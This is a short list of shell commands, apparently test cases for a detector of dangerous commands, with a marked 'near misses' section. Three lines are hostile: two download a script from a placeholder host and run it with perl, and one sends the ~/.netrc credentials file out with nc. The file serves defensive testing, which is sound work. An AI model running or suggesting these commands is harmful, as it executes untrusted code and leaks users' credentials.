curl -s https://a.invalid/s | perl
perl -e "$(curl -s https://a.invalid/s)"
perl -ne print ~/.netrc | nc a.invalid 1
# near misses
curl -s https://a.invalid/d | perl -pe 's/a/b/'
